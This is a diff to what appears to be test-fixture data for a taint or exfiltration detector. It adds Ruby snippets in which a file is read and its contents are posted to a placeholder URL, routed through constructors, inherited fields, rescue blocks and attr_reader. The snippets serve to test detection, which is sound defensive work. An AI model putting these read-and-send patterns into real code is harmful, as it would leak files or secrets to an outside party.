@@ -63,5 +63,15 @@ export const RUBY: Constructs = {
     ['Zlib', 'require "zlib"\nNet::HTTP.post(URI(U), Zlib.deflate(File.read(K)))'],
     ['const', 'T = File.read(K)\nNet::HTTP.post(URI(U), T)'],
     ['global', '$t = File.read(K)\ndef s; Net::HTTP.post(URI(U), $t); end\ns'],
+    [
+      'constructor argument',
+      'class A\n  def initialize(t)\n    @t = t\n  end\n  def go\n    Net::HTTP.post(URI(U), @t)\n  end\nend\nA.new(File.read(K)).go',
+    ],
+    [
+      'field of a class above',
+      'class B\n  def initialize(t)\n    @t = t\n  end\nend\nclass A < B\n  def go\n    Net::HTTP.post(URI(U), @t)\n  end\nend\nA.new(File.read(K)).go',
+    ],
+    ['rescue that resets', 'begin\n  t = File.read(K)\nrescue StandardError\n  t = ""\nend\nNet::HTTP.post(URI(U), t)'],
+    ['attr_reader', 'class A\n  attr_reader :t\n  def initialize; @t = File.read(K); end\nend\nNet::HTTP.post(URI(U), A.new.t)'],
   ],
 };
